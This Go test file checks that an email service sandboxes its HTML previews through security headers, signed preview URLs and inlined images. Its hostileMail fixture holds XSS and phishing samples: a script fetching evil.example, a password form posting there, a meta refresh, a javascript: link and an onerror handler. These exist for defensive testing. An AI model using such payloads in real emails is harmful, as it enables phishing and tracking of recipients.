package web

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"mailer/app"
	"mailer/app/testing/apptest"
)

type frameAnswer struct {
	Object       string
	URL          *string
	ExpiresAt    string `json:"expires_at"`
	RemoteImages int    `json:"remote_images"`
}

// framed asks for a preview and for what its frame shows, without key or cookie.
func (r *testAPI) framed(key, path, body string) (frameAnswer, *httptest.ResponseRecorder) {
	r.t.Helper()
	w := r.as(key, "POST", path, body)
	wantStatus(r.t, w, 200)
	got := decoded[frameAnswer](r.t, w)
	if got.URL == nil || got.ExpiresAt == "" {
		r.t.Fatalf("POST %s: %s", path, w.Body)
	}
	at, err := url.Parse(*got.URL)
	if err != nil {
		r.t.Fatal(err)
	}
	return got, r.do("GET", at.Path, "")
}

// wantSandboxed checks that a page is sandboxed, and that only own pages may frame it.
func wantSandboxed(t *testing.T, w *httptest.ResponseRecorder, pictures string) {
	t.Helper()
	want := "sandbox; default-src 'none'; img-src " + pictures + "; style-src 'unsafe-inline'; frame-ancestors 'self'"
	if got := w.Header().Get("Content-Security-Policy"); got != want {
		t.Errorf("policy %q, want %q", got, want)
	}
	for name, want := range map[string]string{"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store",
		"X-Dns-Prefetch-Control": "off", "Set-Cookie": "", "Link": "", "Refresh": ""} {
		if got := w.Header().Get(name); got != want {
			t.Errorf("%s %q, want %q", name, got, want)
		}
	}
}

const hostileMail = `<!doctype html><meta http-equiv=refresh content="0;url=https://evil.example/"><script>fetch("https://evil.example/")</script>` +
	`<LINK rel=preconnect href=https://evil.example><form action=https://evil.example><input name=password></form>` +
	`<math href="javascript:alert(1)">x</math><img src=https://evil.example/pixel.gif onerror=alert(1)><object data=https://evil.example></object>`

func TestHostileMailPreviewIsSandboxed(t *testing.T) {
	apptest.Serial(t)
	t.Parallel()
	r := newTestAPI(t, captured())
	large := hostileMail + strings.Repeat("<p>a megabyte of it</p>", 1<<20/23)
	for _, body := range []string{hostileMail, large} {
		id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","html":`+quoted(body)+`}`)
		got, w := r.framed(r.full, "/emails/"+id+"/preview", "")
		wantStatus(t, w, 200)
		wantSandboxed(t, w, "data:")
		if w.Header().Get("Content-Type") != "text/html; charset=utf-8" || strings.Contains(strings.ToLower(w.Body.String()), "<link") || w.Body.Len() != len(body) {
			t.Errorf("%s of %d bytes, wrote %d", w.Header().Get("Content-Type"), w.Body.Len(), len(body))
		}
		if got.Object != "email_preview" || got.RemoteImages != 1 {
			t.Errorf("%+v", got)
		}
		with, w := r.framed(r.full, "/emails/"+id+"/preview", `{"images":true}`)
		wantSandboxed(t, w, "data: https: http:")
		if *with.URL == *got.URL {
			t.Error("pictures from elsewhere have no address of their own")
		}
		at, _ := url.Parse(*got.URL)
		wantSandboxed(t, r.do("GET", at.Path+"?images=1", ""), "data:") // the URL can't turn images on
	}
}

func TestPreviewImages(t *testing.T) {
	t.Parallel()
	cfg := captured()
	cfg.Compat = app.CompatResend
	r := newTestAPI(t, cfg)
	picture := []byte("\x89PNG\r\n\x1a\n picture")
	content := base64.StdEncoding.EncodeToString(picture)
	id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","html":"<img src=\"cid:logo\"><img src='CID:lo%67o'><p>cid:logo</p><td style=\"background:url(cid:logo)\"><img src=\"cid:other\"><img src=\"cid:page\">",
		"attachments":[{"filename":"a.png","content":"`+content+`","content_id":"logo","content_type":"image/png"},{"filename":"a.html","content":"aGk=","content_id":"page","content_type":"text/html"}]}`)
	_, w := r.framed(r.full, "/emails/"+id+"/preview", "")
	data := "data:image/png;base64," + content
	want := `<img src="` + data + `"><img src='` + data + `'><p>cid:logo</p><td style="background:url(` + data + `)"><img src="cid:other"><img src="cid:page">`
	if w.Body.String() != want {
		t.Errorf("%s\nwant %s", w.Body, want)
	}
}

func TestRepeatedImageIsBounded(t *testing.T) {
	t.Parallel()
	cfg := captured()
	cfg.Compat = app.CompatResend
	r := newTestAPI(t, cfg)
	picture := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("x"), 1<<20))
	id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","html":"`+strings.Repeat(`<img src='cid:a'>`, 100)+`",
		"attachments":[{"filename":"a.png","content":"`+picture+`","content_id":"a","content_type":"image/png"}]}`)
	_, w := r.framed(r.full, "/emails/"+id+"/preview", "")
	wantStatus(t, w, 200)
	if w.Body.Len() > 9<<20 || w.Body.Len() < len(picture) {
		t.Errorf("%d bytes", w.Body.Len())
	}
}

func TestPreviewOfTextMail(t *testing.T) {
	t.Parallel()
	r := newTestAPI(t, captured())
	id := r.send(r.full, `{"from":"a@example.com","to":"b@example.org","subject":"s","text":"<script>alert(1)</script>"}`)
	_, w := r.framed(r.full, "/emails/"+id+"/preview", "")
	wantSandboxed(t, w, "data:")
	if w.Header().Get("Content-Type") != "text/plain; charset=utf-8" || w.Body.String() != "<script>alert(1)</script>" {
		t.Errorf("%v %s", w.Header(), w.Body)
	}
}

func TestPreviewURLsAreSigned(t *testing.T) {
	t.Parallel()
	r := newTestAPI(t, captured())
	_, foreign := r.newTeam("theirs")
	id := r.send(r.full, validSend)
	wantError(t, r.as(foreign, "POST", "/emails/"+id+"/preview", ""), 404, app.CodeNotFound, "email")
	got, _ := r.framed(r.full, "/emails/"+id+"/preview", "")
	at, _ := url.Parse(*got.URL)
	raw, err := base64.RawURLEncoding.DecodeString(strings.TrimPrefix(at.Path, "/previews/"))
	if err != nil {
		t.Fatal(err)
	}
	for _, i := range []int{7, 8, 20, 60, len(raw) - 1} {
		forged := bytes.Clone(raw)
		forged[i] ^= 1
		w := r.do("GET", "/previews/"+base64.RawURLEncoding.EncodeToString(forged), "")
		wantStatus(t, w, 404)
		wantSandboxed(t, w, "data:")
	}
}

func TestDraftPreview(t *testing.T) {
	t.Parallel()
	a := newAudienceAPI(t)
	_, foreign := a.newTeam("theirs")
	wantStatus(t, a.call("POST", "/contacts", `{"email":"ann@example.org","first_name":"Ann"}`), 201)
	segment := decoded[struct{ ID string }](t, a.call("POST", "/segments", `{"name":"all"}`)).ID
	draft := decoded[struct{ ID string }](t, a.call("POST", "/broadcasts", fmt.Sprintf(
		`{"name":"b","segment_id":%q,"from":"a@example.com","subject":"s","html":"<link rel=preconnect href=//evil.example><p>Hi {{{contact.first_name|you}}}</p>"}`, segment))).ID
	path := "/broadcasts/" + draft + "/preview"
	got, w := a.framed(a.full, path, `{"contact":"ann@example.org"}`)
	wantSandboxed(t, w, "data:")
	if w.Body.String() != "<lynk rel=preconnect href=//evil.example><p>Hi Ann</p>" || got.Object != "broadcast_preview" {
		t.Errorf("%s", w.Body)
	}
	_, w = a.framed(a.full, path, `{"images":true}`)
	wantSandboxed(t, w, "data: https: http:")
	wantError(t, a.as(foreign, "POST", path, ""), 404, app.CodeNotFound, "broadcast")
	template := decoded[struct{ ID string }](t, a.call("POST", "/templates", `{"name":"t","html":"<p>{{{NAME}}}</p>","variables":[{"key":"NAME","type":"string"}]}`)).ID
	got, w = a.framed(a.full, "/templates/"+template+"/render", `{"variables":{"NAME":"Bo"}}`)
	wantSandboxed(t, w, "data:")
	if w.Body.String() != "<p>Bo</p>" || got.Object != "rendered_template" {
		t.Errorf("%s", w.Body)
	}
}

// quoted is a JSON string.
func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
